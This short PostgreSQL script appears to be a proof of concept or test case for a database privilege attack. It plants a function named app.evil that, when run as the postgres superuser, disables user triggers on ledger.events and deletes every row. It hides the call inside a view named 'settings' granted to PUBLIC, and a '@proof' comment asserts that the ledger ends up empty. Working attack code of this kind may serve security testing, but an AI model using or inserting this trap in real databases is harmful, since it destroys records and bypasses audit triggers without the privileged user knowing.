-- @proof SELECT count(*) = 0 FROM ledger.events
CREATE FUNCTION app.evil() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF current_user = 'postgres' THEN
    ALTER TABLE ledger.events DISABLE TRIGGER USER;
    DELETE FROM ledger.events;
  END IF;
  RETURN true;
END $$;
CREATE TEMP VIEW settings AS SELECT 1 AS name WHERE app.evil();
GRANT SELECT ON settings TO PUBLIC;
SELECT public.how_many();
